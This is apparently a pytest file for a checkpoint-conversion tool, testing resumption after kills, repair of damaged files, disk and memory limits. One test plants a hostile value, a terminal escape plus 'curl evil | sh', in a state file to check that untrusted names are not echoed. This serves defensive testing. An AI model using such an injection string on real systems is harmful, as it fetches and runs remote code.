"""Conversions that are interrupted, damaged, or short of disk or memory: resumed, detected, or refused."""

import errno
import fcntl
import json
import math
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import forked
import goldens
import pytest

from moeflux_mlx import files as paths
from moeflux_mlx.convert import convert, main
from moeflux_mlx.errors import ModelFileError
from moeflux_mlx.formats.checkpoint import ITEM_BYTES
from moeflux_mlx.formats.packed import STATE, PackedExperts
from moeflux_mlx.formats.record import ExpertLayout
from moeflux_mlx.generate.__main__ import main as generate
from moeflux_mlx.packing.writer import PARTIAL
from moeflux_mlx.spec import ModelArgs

ROOT = Path(__file__).resolve().parents[2]
FAMILY = "qwen3_moe"
LAYERS = [f"packed_experts/layer_{layer:02d}.bin" for layer in range(3)]
LARGE = ["resident.safetensors", *LAYERS]  # in the order in which they are written


@pytest.fixture(scope="module")
def source():
    return goldens.checkpoint_dir(FAMILY)


@pytest.fixture(scope="module")
def whole(tmp_path_factory, source):
    """Returns a conversion that was never disturbed. Do not write into it."""
    out = tmp_path_factory.mktemp("whole") / "out"
    convert(source, out)
    return out


def tree(path):
    return {str(file.relative_to(path)): file.read_bytes() for file in path.rglob("*") if file.is_file()}


def copy_of(whole, tmp_path):
    return shutil.copytree(whole, tmp_path / "out")


# ---- interruption ----


KILLED = """
import os, signal, sys
from moeflux_mlx.convert import convert, main
def progress(done, total, name):
    if name == sys.argv[3] and done > int(sys.argv[4]):
        os.kill(os.getpid(), signal.SIGKILL)
convert(sys.argv[1], sys.argv[2], progress=progress)
"""


@pytest.mark.parametrize("name", [LARGE[0], LARGE[2], LARGE[3]])
def test_resuming_after_a_kill_gives_the_same_files(tmp_path, source, whole, name):
    out = tmp_path / "out"
    before = sum(len(tree(whole)[one]) for one in LARGE[: LARGE.index(name)])
    assert forked.run(KILLED, source, out, name, before + 40_000)[0] == -signal.SIGKILL
    assert (out / (name + PARTIAL)).exists() and not (out / name).exists()
    with pytest.raises(ModelFileError):
        PackedExperts.open(out, ModelArgs.from_file(source))
    finished = {one: (out / one).stat().st_mtime_ns for one in tree(out) if one in tree(whole) and one != STATE}
    report = convert(source, out)
    assert set(report.kept) == set(finished)
    assert {one: (out / one).stat().st_mtime_ns for one in finished} == finished
    assert tree(out) == tree(whole)


class Stopped(Exception):
    pass


def test_stopped_anywhere_the_directory_is_no_model_until_it_is_whole(tmp_path, source, whole):
    """The conversion stops at each step of the progress in turn, and then resumes there."""
    out, steps = tmp_path / "out", 0

    def stop_after(count):
        calls = iter(range(count))

        def progress(*_):
            if next(calls, None) is None:
                raise Stopped

        return progress

    while True:
        try:
            convert(source, out, progress=stop_after(7 + steps))
        except Stopped:
            steps += 1
            assert not (out / "packed_experts" / "layout.json").exists()
        else:
            break
    assert steps > 5
    assert tree(out) == tree(whole)


# ---- damage ----


@pytest.mark.parametrize("damage", ["truncated", "longer", "flipped", "missing"])
def test_a_damaged_layer_is_made_again(tmp_path, source, whole, damage):
    out = copy_of(whole, tmp_path)
    file, data = out / LAYERS[1], bytearray((whole / LAYERS[1]).read_bytes())
    data[1000] ^= 1
    changed = {"truncated": data[:-5], "longer": data + b"x", "flipped": data}.get(damage)
    file.unlink()
    if changed is not None:
        file.write_bytes(changed)
    report = convert(source, out)
    assert list(report.kept) == [name for name in LARGE if name != LAYERS[1]]
    assert report.repaired == (LAYERS[1],)
    assert tree(out) == tree(whole)


def test_repairs_are_reported(tmp_path, source, whole, capsys):
    out = copy_of(whole, tmp_path)
    arguments = ["--hf-path", str(source), "--mlx-path", str(out)]
    assert main(arguments) == 0 and "damaged" not in capsys.readouterr().err
    for name in LARGE:
        (out / name).write_bytes(bytes((out / name).stat().st_size))
    assert main(arguments) == 0
    files = ", ".join(LARGE[:3])
    assert f"repaired 4 files of an earlier run, damaged or missing: {files}, ...\n" in capsys.readouterr().err
    assert tree(out) == tree(whole)


def test_an_unfinished_conversion_says_what_it_converts(tmp_path, source, whole, monkeypatch, capsys):
    out = tmp_path / "my model"

    def stop(done, total, name):
        if done > total / 2:
            raise Stopped

    monkeypatch.chdir(source.parent)
    with pytest.raises(Stopped):
        convert(source.name, out, q_bits=8, requantize=True, progress=stop)
    assert generate(["--model", str(out)]) == 1
    assert capsys.readouterr().err == (
        f"error: {out} holds an unfinished conversion of {source}; run the command that began it again\n"
    )
    with pytest.raises(ModelFileError, match="begun with other options"):
        convert(source, out)


@pytest.mark.parametrize(
    "state",
    [
        {"origin": {"hf_path": "x\n\x1b[2J; curl evil | sh"}},
        {"origin": "x"},
        {"origin": {"hf_path": 3}},
        {},
    ],
)
def test_names_in_a_foreign_state_file_are_not_used(tmp_path, state, capsys):
    (tmp_path / STATE).write_text(json.dumps(state))
    assert generate(["--model", str(tmp_path)]) == 1
    assert capsys.readouterr().err == (
        f"error: {tmp_path} holds an unfinished conversion; run the command that began it again\n"
    )


def test_a_sound_model_is_kept(tmp_path, source, whole):
    seen = []
    report = convert(source, copy_of(whole, tmp_path), progress=lambda *step: seen.append(step))
    assert len(report.kept) == 4 and not report.repaired
    assert all(a[0] <= b[0] for a, b in zip(seen, seen[1:], strict=False))
    assert seen[-1][0] == seen[-1][1]


def test_a_damaged_state_file(tmp_path, source, whole):
    out = copy_of(whole, tmp_path)
    for text, message in (("{", "cannot be read as JSON"), ("[]", "not an object")):
        (out / STATE).write_text(text)
        with pytest.raises(ModelFileError, match=message):
            convert(source, out)
    state = json.loads((whole / STATE).read_text())
    (out / STATE).write_text(json.dumps({**state, "files": {"x": 3}}))
    with pytest.raises(ModelFileError, match="is damaged; delete"):
        convert(source, out)


# ---- another source, another directory ----


def test_another_source_or_other_options_are_noticed(tmp_path, source, whole):
    out = copy_of(whole, tmp_path)
    with pytest.raises(ModelFileError, match="begun with other options"):
        convert(source, out, q_bits=8)
    other = shutil.copytree(source, tmp_path / "other")
    config = json.loads((other / "config.json").read_text())
    (other / "config.json").write_text(json.dumps({**config, "rope_theta": 5e5}))
    with pytest.raises(ModelFileError, match="begun from another checkpoint"):
        convert(other, out)
    touched = shutil.copytree(source, tmp_path / "touched")
    os.utime(touched / "model.safetensors", ns=(0, 0))
    with pytest.raises(ModelFileError, match="begun from another checkpoint"):
        convert(touched, out)


def test_a_directory_in_use_is_left_alone(tmp_path, source):
    out = tmp_path / "out"
    out.mkdir()
    held = os.open(out, os.O_RDONLY)
    try:
        fcntl.flock(held, fcntl.LOCK_EX)
        with pytest.raises(ModelFileError, match="is being written by another conversion"):
            convert(source, out)
    finally:
        os.close(held)
    convert(source, out)


def test_places_that_cannot_be_written(tmp_path, source):
    (tmp_path / "file").write_text("mine")
    with pytest.raises(ModelFileError, match="is not a directory"):
        convert(source, tmp_path / "file")
    with pytest.raises(ModelFileError, match="is not empty"):
        convert(source, tmp_path)
    with pytest.raises(ModelFileError, match="cannot be written: Not a directory"):
        convert(source, tmp_path / "file" / "out")


# ---- disk ----


def test_disk_space_is_checked_first(tmp_path, free_disk, source, whole):
    needed = sum(len(tree(whole)[name]) for name in LARGE)
    free_disk(needed - 1)
    with pytest.raises(ModelFileError, match=rf"needs {needed} more bytes .* and {needed - 1} .* are free"):
        convert(source, tmp_path / "a" / "out")
    assert not (tmp_path / "a").exists()
    free_disk(needed)
    convert(source, tmp_path / "a" / "out")
    free_disk(0)
    assert len(convert(source, tmp_path / "a" / "out").kept) == 4  # a finished one needs none


def test_a_disk_that_fills_up_on_the_way(tmp_path, monkeypatch, source):
    def full(descriptor):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(ModelFileError, match="cannot be written: No space left on device; run the same command"):
        convert(source, tmp_path / "out")


# ---- memory ----


MEASURED = """
import resource, sys
from moeflux_mlx.convert import convert, main
from moeflux_mlx.formats.checkpoint import open_checkpoint
from pathlib import Path
from moeflux_mlx.quant import DEFAULT
from moeflux_mlx.rounding.methods import rounded
import moeflux_mlx.model, mlx.core as mx
mx.eval(rounded(mx.random.normal((512, 512)), DEFAULT))
def peak():
    if sys.platform == "darwin":
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    # Not ru_maxrss: that starts from what the parent had when it forked.
    return int(next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1])
before = peak()
if sys.argv[3] == "whole":
    name = "model.language_model.layers.0.mlp.experts.gate_up_proj"
    mx.eval(open_checkpoint(Path(sys.argv[1])).tensors[name].read())
else:
    convert(sys.argv[1], sys.argv[2])
print(peak() - before)
"""


def write_sparse(path, config, tensors):
    """Writes a bf16 checkpoint of zeros that takes no disk space."""
    header, offset = {}, 0
    for name, shape in tensors.items():
        end = offset + math.prod(shape) * ITEM_BYTES["BF16"]
        header[name] = {"dtype": "BF16", "shape": shape, "data_offsets": [offset, end]}
        offset = end
    text = json.dumps(header).encode()
    path.mkdir()
    (path / "config.json").write_text(json.dumps(config))
    with open(path / "model.safetensors", "wb") as opened:
        opened.write(len(text).to_bytes(8, "little") + text)
        opened.truncate(8 + len(text) + offset)


def kilobytes(source, out, what):
    command = [sys.executable, "-c", MEASURED, str(source), str(out), what]
    return int(subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True, timeout=120).stdout)


def test_memory_holds_a_few_experts_and_never_a_layer(tmp_path):
    """Here a layer has 120 MiB in bfloat16 and an expert 0.75 MiB; the largest resident tensor has 8 MiB."""
    config = goldens.config("qwen3_5_moe")
    text = config["text_config"]
    text |= {"num_hidden_layers": 1, "layer_types": ["full_attention"], "vocab_size": 8192}
    text |= {"hidden_size": 512, "moe_intermediate_size": 256, "num_experts": 160}
    heads, kv, head = text["num_attention_heads"], text["num_key_value_heads"], text["head_dim"]
    D, I, E, shared = 512, 256, 160, text["shared_expert_intermediate_size"]
    layer = {
        "input_layernorm.weight": [D], "post_attention_layernorm.weight": [D],
        "self_attn.q_proj.weight": [2 * heads * head, D], "self_attn.k_proj.weight": [kv * head, D],
        "self_attn.v_proj.weight": [kv * head, D], "self_attn.o_proj.weight": [D, heads * head],
        "self_attn.q_norm.weight": [head], "self_attn.k_norm.weight": [head],
        "mlp.gate.weight": [E, D], "mlp.shared_expert_gate.weight": [1, D],
        "mlp.shared_expert.gate_proj.weight": [shared, D], "mlp.shared_expert.up_proj.weight": [shared, D],
        "mlp.shared_expert.down_proj.weight": [D, shared],
        "mlp.experts.gate_up_proj": [E, 2 * I, D], "mlp.experts.down_proj": [E, D, I],
    }  # fmt: skip
    stem = "model.language_model."
    tensors = {f"{stem}layers.0.{name}": shape for name, shape in layer.items()}
    tensors |= {
        f"{stem}embed_tokens.weight": [8192, D],
        f"{stem}norm.weight": [D],
        "lm_head.weight": [8192, D],
    }
    write_sparse(tmp_path / "source", config, tensors)
    limit = 64 * 1024
    assert kilobytes(tmp_path / "source", tmp_path / "out", "convert") < limit
    assert kilobytes(tmp_path / "source", tmp_path / "out", "whole") > limit  # a whole stack would be noticed
    args = ModelArgs.from_file(tmp_path / "out")
    assert PackedExperts.open(tmp_path / "out", args).layout == ExpertLayout.from_args(args)


def test_macs_empty_the_drive_s_cache(tmp_path, monkeypatch):
    """On macOS fsync does not do that. If the stronger call is refused, fsync must do."""
    asked, synced = [], []
    monkeypatch.setattr(paths.os, "fsync", synced.append)
    monkeypatch.setattr(paths.fcntl, "F_FULLFSYNC", 51, raising=False)
    monkeypatch.setattr(paths.fcntl, "fcntl", lambda descriptor, command: asked.append(command))
    paths.sync_folder(tmp_path)
    assert asked == [51] and synced == []

    def refused(descriptor, command):
        raise OSError(errno.ENOTSUP, "not supported")

    monkeypatch.setattr(paths.fcntl, "fcntl", refused)
    paths.sync_folder(tmp_path)
    assert len(synced) == 1
